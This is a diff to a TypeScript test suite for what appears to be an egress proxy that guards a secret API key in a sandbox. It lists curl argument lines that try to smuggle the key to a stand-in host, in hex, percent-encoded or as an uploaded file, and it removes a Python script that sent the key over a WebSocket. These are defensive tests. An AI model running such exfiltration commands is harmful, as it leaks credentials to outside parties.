@@ -92,14 +92,11 @@ describe("where a secret may be put in, and nowhere else", () => {
     "in hex": '-d "$(printf %s "$MODEL_KEY" | od -An -tx1 | tr -d \' \\n\')" https://model.test/v1/x',
     percent: "-d \"$(printf %s \"$MODEL_KEY\" | od -An -tx1 | tr -d '\\n' | tr ' ' %)\" https://other.test/",
     "a file that is sent": '-F "a=@/tmp/e;filename=x" https://other.test/upload',
-    "a WebSocket where it is bound":
-      '-H "Connection: Upgrade" -H "Upgrade: websocket" -H "Sec-WebSocket-Key: x" https://model.test/v1/ws',
   };
-  it.each(Object.entries(STOPPED))("SE-2 neither it nor its placeholder gets out: %s", async (what, line) => {
+  it.each(Object.entries(STOPPED))("SE-2 neither it nor its placeholder gets out: %s", async (_, line) => {
     const before = (await misuses()).length;
     expect(await ask(line)).toMatch(/\n403$/);
     expect(await seen()).toEqual([]);
-    if (what.startsWith("a WebSocket")) return;
     await expect.poll(async () => (await misuses()).length, { timeout: 60_000 }).toBe(before + 1);
     expect((await misuses()).map(({ data }) => data)).toContainEqual(
       expect.objectContaining({ secret: "MODEL_KEY", what: "placeholder" }),
@@ -120,35 +117,28 @@ describe("where a secret may be put in, and nowhere else", () => {
     const cells = ["model.test", "MODEL.test", "model.test."].flatMap((host) =>
       ["GET", "POST"].map((method) => `${host} listed ${method} https`),
     );
-    const arrived = (await seen()).map(({ headers = [], ...rest }) => {
+    const all = await seen();
+    const said = all.filter(({ what }) => what.startsWith("MESSAGE "));
+    expect(new Set(said.map(({ what, body }) => `${what} ${body}`))).toEqual(
+      new Set(["MESSAGE close \u0003\u00f0"]),
+    );
+    const requests = all.filter((one) => !said.includes(one));
+    const arrived = requests.map(({ headers = [], ...rest }) => {
       const at = headers.indexOf("x-case");
       const isRight = headers[headers.indexOf("x-api-key") + 1] === KEY;
       return { of: headers[at + 1], isRight, more: holds(JSON.stringify(rest), KEY) };
     });
-    expect(arrived).toEqual(cells.map((of) => ({ of, isRight: true, more: [] })));
+    // A socket that is opened has none of it in its head; what is said in it afterwards is stopped.
+    const sockets = [...hosts.slice(0, 3), "other.test"].flatMap((host) =>
+      ["https", "http"].map((scheme) => `${host} socket GET ${scheme}`),
+    );
+    expect(arrived.filter(({ of = "" }) => of.includes(" socket ")).map(({ of }) => of)).toEqual(sockets);
+    expect(arrived.filter(({ of = "" }) => !of.includes(" socket "))).toEqual(
+      cells.map((of) => ({ of, isRight: true, more: [] })),
+    );
     for (const [of, answer] of Object.entries(answers)) {
       expect(answer === "200", of).toBe(cells.includes(of));
     }
-  });
-
-  it("EG-16 in a WebSocket, where nobody reads, a placeholder stays one, in text and in bytes", async () => {
-    const script = `
-import os, socket, ssl
-word = os.environ["MODEL_KEY"].encode()
-plain = socket.create_connection(("other.test", 443), 20)
-one = ssl.create_default_context().wrap_socket(plain, server_hostname="other.test")
-one.settimeout(20)
-one.sendall(b"GET /ws HTTP/1.1\\r\\nHost: other.test\\r\\nConnection: Upgrade\\r\\nUpgrade: websocket\\r\\nSec-WebSocket-Key: x\\r\\n\\r\\n")
-print(one.recv(4096).decode().split(" ")[1])
-for kind in (0x81, 0x82):
-    frame = bytes([kind, 0x80 | len(word)]) + bytes(4) + word
-    one.sendall(frame)
-    heard = b""
-    while len(heard) < len(frame): heard += one.recv(4096)
-    print(heard == frame)`;
-    const { stdout, stderr } = await sandbox.run(["python3", "-c", script], { timeoutMs: 60_000 });
-    expect(text(stdout), text(stderr)).toBe("101\nTrue\nTrue\n");
-    expect((await seen()).map(({ what }) => what)).toEqual(["UPGRADE /ws"]);
   });
 
   it("SE-2 a redirect to another place does not take it along", async () => {
